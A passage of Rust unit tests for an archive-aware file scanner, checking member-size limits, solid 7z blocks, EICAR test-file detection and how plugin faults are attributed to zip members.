        seven_z(&[("zeros.bin", &zeros), ("after.com", &eicar)], false, None),
    );
    sandbox.configure("[archives]\nmax_member_size = 4194304\n");
    let scan = sandbox.scan(&["custom", text(&sandbox.corpus(""))]);
    let names = |path| -> Vec<String> {
        limits_of(&scan, path)
            .into_iter()
            .map(|(_, limit, _)| limit)
            .collect()
    };
    assert_eq!(names(&locked), ["encrypted"], "{:?}", scan.records);
    assert_eq!(names(&solid), ["max_member_size", "max_member_size"]);
    assert_eq!(
        found_in(&scan, &solid),
        vec![],
        "the rest of the solid block is not decoded"
    );
    assert_eq!(names(&separate), ["max_member_size"]);
    assert_eq!(
        found_in(&scan, &separate),
        vec![(strings(&["after.com"]), EICAR_RULE.into())],
        "a block of its own is still read"
    );
}

#[test]
fn a_plugin_fault_on_a_member_names_the_member() {
    let sandbox = Sandbox::new();
    let archive = sandbox.write(
        "faults.zip",
        zip_of(
            &[("inner/x.hostile", b"trap"), ("y.hostile", b"detect")],
            zip::CompressionMethod::Deflated,
        ),
    );
    let scan = sandbox.scan(&[
        "custom",
        text(&archive),
        "--plugin",
        text(common::hostile_plugin()),
    ]);
    let faults = scan.of_type("plugin_fault");
    assert_eq!(faults.len(), 1, "{:?}", scan.records);
    assert_eq!(members(faults[0]), strings(&["inner/x.hostile"]));
    assert_eq!(faults[0]["plugin"], "hostile");
    assert_eq!(
        found_in(&scan, &archive),
        vec![(strings(&["y.hostile"]), "hostile".into())],
        "the other member's result stands"
    );
}
